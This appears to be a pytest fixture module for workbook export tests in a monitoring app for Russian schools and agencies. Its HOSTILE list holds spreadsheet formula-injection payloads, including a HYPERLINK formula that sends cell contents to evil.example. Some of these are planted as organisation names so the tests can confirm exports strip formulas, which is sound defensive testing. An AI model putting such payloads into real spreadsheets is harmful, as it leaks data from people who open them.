"""Monitoring data and helpers for the export tests (reopening workbooks, Weblate style)."""

from __future__ import annotations

import datetime as dt
import io
from dataclasses import dataclass

import openpyxl
import pytest

from agencies.choices import OrgType
from agencies.models import Region
from indicators.models import Indicator, MonitoringRollup, MonitoringRow, RegionBaseline
from reports.exports.base import starts_formula
from tests.factories import make_municipality, make_organisation

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"нажмите")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
WEEKS = [dt.date(2025, 9, 22), dt.date(2025, 9, 29), dt.date(2025, 10, 6)]
EDU = {OrgType.SCHOOL, OrgType.COLLEGE, OrgType.ADDITIONAL}
GOV = {OrgType.ROIV, OrgType.OMSU, OrgType.SUBORDINATE}


def open_xlsx(content: bytes | str) -> openpyxl.Workbook:
    if isinstance(content, str):
        return openpyxl.load_workbook(content)
    return openpyxl.load_workbook(io.BytesIO(content))


def header_row(ws) -> int:
    """1-based row of the table header: the row above the frozen pane."""
    return ws[ws.freeze_panes].row - 1


def table(ws) -> tuple[list[str], list[list]]:
    """(headers, data rows as cells) of a report sheet."""
    h = header_row(ws)
    headers = [c.value for c in ws[h]]
    rows = [list(r) for r in ws.iter_rows(min_row=h + 1) if any(c.value is not None for c in r)]
    return headers, rows


def by_header(headers: list[str], row: list) -> dict:
    return dict(zip(headers, row, strict=False))


def assert_no_formulas(wb) -> None:
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not starts_formula(cell.value), (
                        ws.title,
                        cell.coordinate,
                        cell.value,
                    )


@dataclass
class Monitoring:
    region: Region
    city: object
    village: object
    hostile_org: object


def rollup_rows(region: Region) -> None:
    """The rollups the import job keeps, summed here from the rows (docs/domain.md groups)."""
    MonitoringRollup.objects.filter(region=region).delete()
    sums: dict = {}
    for row in MonitoringRow.objects.filter(region=region):
        for muni in (None, row.municipality_id):
            s = sums.setdefault((muni, row.week_start), dict.fromkeys(FIELDS, 0))
            s["organisations"] += 1
            if row.org_type in EDU:
                s["edu_staff_total"] += row.staff_total
                s["edu_staff_writers"] += row.staff_writers
                s["edu_students_total"] += row.students_total
                s["edu_learners_active"] += row.learners_active
            if row.org_type != OrgType.PRESCHOOL:
                s["np_sferum_users"] += row.sferum_users
                s["np_max_only_users"] += row.max_only_users
            if row.org_type in GOV:
                s["gov_staff_total"] += row.staff_total
                s["gov_staff_writers"] += row.staff_writers
            s["vkm_users"] += row.vkm_users
            s["vkm_and_max_users"] += row.vkm_and_max_users
    for (muni, week), values in sums.items():
        MonitoringRollup.objects.create(
            region=region, municipality_id=muni, week_start=week, **values
        )


FIELDS = [
    "organisations",
    "edu_staff_total",
    "edu_staff_writers",
    "edu_students_total",
    "edu_learners_active",
    "np_sferum_users",
    "np_max_only_users",
    "gov_staff_total",
    "gov_staff_writers",
    "vkm_users",
    "vkm_and_max_users",
]


def add_row(org, week, **counts) -> MonitoringRow:
    return MonitoringRow.objects.create(
        week_start=week,
        organisation=org,
        region=org.region,
        municipality=org.municipality,
        org_type=org.org_type,
        **counts,
    )


@pytest.fixture
def monitoring(seeded) -> Monitoring:
    """Sverdlovsk (66): a city with a school (hostile name) and an education authority, a
    village with only a kindergarten (I1 has no data there); three weeks around stage 1."""
    region = Region.objects.get(code="66")
    city = make_municipality(region, "Екатеринбург")
    village = make_municipality(region, HOSTILE[2])  # "-2+3" as a municipality name
    school = make_organisation(region, city, name=HOSTILE[0], org_type=OrgType.SCHOOL)
    authority = make_organisation(region, city, name=HOSTILE[3], org_type=OrgType.ROIV)
    kindergarten = make_organisation(
        region, village, name="Детский сад № 1", org_type=OrgType.PRESCHOOL
    )
    for n, week in enumerate(WEEKS):
        add_row(
            school,
            week,
            staff_total=100,
            staff_writers=30 + 10 * n,
            students_total=200,
            learners_active=100,
            sferum_users=300,
            max_only_users=150,
            vkm_users=100,
            vkm_and_max_users=57,
        )
        add_row(
            authority, week, staff_total=10, staff_writers=10, sferum_users=10, max_only_users=10
        )
        add_row(
            kindergarten, week, staff_total=20, staff_writers=5, sferum_users=40, max_only_users=40
        )
    RegionBaseline.objects.update_or_create(
        region=region,
        indicator=Indicator.objects.get(code="i1"),
        defaults={"value": 40, "source": "VK Мессенджер 2024/25"},
    )
    rollup_rows(region)
    return Monitoring(region=region, city=city, village=village, hostile_org=school)
